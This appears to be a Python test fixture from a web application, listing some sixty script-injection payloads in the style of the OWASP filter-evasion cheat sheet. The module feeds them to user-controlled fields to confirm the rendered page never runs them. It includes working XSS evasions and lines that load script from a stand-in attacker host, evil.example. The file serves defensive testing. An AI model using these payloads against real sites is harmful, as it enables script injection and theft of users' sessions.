"""Script-injection attempts, in the spirit of the OWASP filter-evasion cheat sheet.

Every field a commenter or writer controls is fed each of these; the
rendered page must not run any of it. Each vector is a (name, payload) pair
so a failure names the trick that got through. The marker ``nrxss`` appears
in every payload that would execute, so a test can also search for it in
places it must never reach (attribute values, script bodies).
"""

VECTORS = [
    # Plain script elements and their disguises.
    ("script-tag", "<script>alert('nrxss')</script>"),
    ("script-upper", "<SCRIPT>alert('nrxss')</SCRIPT>"),
    ("script-mixed-case-src", "<ScRiPt SrC=//evil.example/nrxss.js></ScRiPt>"),
    ("script-no-close", "<script src=//evil.example/nrxss.js?<b>"),
    ("script-nested", "<scr<script>ipt>alert('nrxss')</scr</script>ipt>"),
    ("script-slash-attr", "<script/src=//evil.example/nrxss.js></script>"),
    ("script-double-open", "<<script>alert('nrxss');//<</script>"),
    ("script-in-comment-break", "<!--<script>--><script>alert('nrxss')</script>"),
    # Event handlers on harmless-looking elements.
    ("img-onerror", "<img src=x onerror=alert('nrxss')>"),
    ("img-onerror-no-quotes-slash", "<img/src=x/onerror=alert('nrxss')>"),
    ("img-onerror-backticks", "<img src=x onerror=alert`nrxss`>"),
    ("img-onerror-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('nrxss')>"),
    ("svg-onload", "<svg onload=alert('nrxss')>"),
    ("svg-slash-onload", "<svg/onload=alert('nrxss')//"),
    ("body-onload", "<body onload=alert('nrxss')>"),
    ("details-ontoggle", "<details open ontoggle=alert('nrxss')>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert('nrxss')>"),
    ("video-source-onerror", "<video><source onerror=alert('nrxss')></video>"),
    ("marquee-onstart", "<marquee onstart=alert('nrxss')>x</marquee>"),
    ("div-onmouseover", "<div onmouseover=\"alert('nrxss')\">hover</div>"),
    # javascript: and data: URLs with encoding tricks.
    ("a-javascript", "<a href=\"javascript:alert('nrxss')\">click</a>"),
    ("a-javascript-case", "<a href=\"JaVaScRiPt:alert('nrxss')\">click</a>"),
    ("a-javascript-tab", "<a href=\"jav\tascript:alert('nrxss')\">click</a>"),
    ("a-javascript-newline", "<a href=\"jav&#x0A;ascript:alert('nrxss')\">click</a>"),
    (
        "a-javascript-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">nrxss</a>',
    ),
    ("a-javascript-hex-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">nrxss</a>'),
    ("a-javascript-leading-space", "<a href=\" &#14; javascript:alert('nrxss')\">click</a>"),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnbnJ4c3MnKTwvc2NyaXB0Pg==">nrxss</a>'),
    ("img-src-javascript", "<img src=\"javascript:alert('nrxss')\">"),
    ("iframe-src-javascript", "<iframe src=\"javascript:alert('nrxss')\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert('nrxss')&lt;/script&gt;\"></iframe>"),
    ("object-data", "<object data=\"data:text/html,<script>alert('nrxss')</script>\"></object>"),
    ("embed-src", "<embed src=\"javascript:alert('nrxss')\">"),
    ("form-action-javascript", "<form action=\"javascript:alert('nrxss')\"><button>go</button></form>"),
    ("button-formaction", "<button formaction=\"javascript:alert('nrxss')\">go</button>"),
    ("base-href", '<base href="https://evil.example/nrxss/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'nrxss\')">'),
    ("svg-a-xlink", "<svg><a xlink:href=\"javascript:alert('nrxss')\"><text y=20>x</text></a></svg>"),
    ("math-href", "<math><mtext><a href=\"javascript:alert('nrxss')\">x</a></mtext></math>"),
    # Breaking out of attributes and text contexts.
    ("attr-breakout-double", "\"><script>alert('nrxss')</script>"),
    ("attr-breakout-single", "'><img src=x onerror=alert('nrxss')>"),
    ("attr-breakout-event", '" onmouseover="alert(\'nrxss\')" x="'),
    ("attr-breakout-unquoted", "x onfocus=alert('nrxss') autofocus"),
    ("textarea-breakout", "</textarea><script>alert('nrxss')</script>"),
    ("title-breakout", "</title><script>alert('nrxss')</script>"),
    # Script-context and JSON-LD break-outs.
    ("script-close-in-json", "</script><script>alert('nrxss')</script>"),
    ("script-close-upper-in-json", "\"}</SCRIPT><img src=x onerror=alert('nrxss')>"),
    ("html-comment-in-json", "<!--<script>alert('nrxss')</script>-->"),
    ("unicode-escape-in-json", "\\u003c/script\\u003e<script>alert('nrxss')</script>"),
    ("line-separator", "a\u2028b\u2029<script>alert('nrxss')</script>"),
    # Style tricks.
    ("style-expression", "<div style=\"width: expression(alert('nrxss'))\">x</div>"),
    ("style-tag-import", "<style>@import 'https://evil.example/nrxss.css';</style>"),
    ("style-url-javascript", "<div style=\"background:url(javascript:alert('nrxss'))\">x</div>"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/nrxss.css">'),
    # Template and markup confusion.
    ("django-template-syntax", "{{ request.user }}{% debug %}nrxss"),
    ("null-byte", "<scr\x00ipt>alert('nrxss')</scr\x00ipt>"),
    ("noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert('nrxss')>\">"),
    ("template-content", "<template><script>alert('nrxss')</script></template>"),
]

#: The corpus for places that bypass form validation (saving models directly):
#: PostgreSQL refuses NUL in text, and every form refuses it first (tested).
STORABLE_VECTORS = [(name, payload.replace("\x00", "")) for name, payload in VECTORS]

#: URLs a commenter might give as their website.
URL_VECTORS = [
    ("javascript-url", "javascript:alert('nrxss')"),
    ("javascript-url-case", "JAVASCRIPT:alert('nrxss')"),
    ("javascript-url-comment", "javascript://example.com/%0Aalert('nrxss')"),
    ("data-url", "data:text/html,<script>alert('nrxss')</script>"),
    ("vbscript-url", "vbscript:msgbox('nrxss')"),
    ("quote-breakout-url", "https://example.com/\"><script>alert('nrxss')</script>"),
    ("event-breakout-url", "https://example.com/\" onmouseover=\"alert('nrxss')"),
    ("protocol-relative", "//evil.example/nrxss"),
]
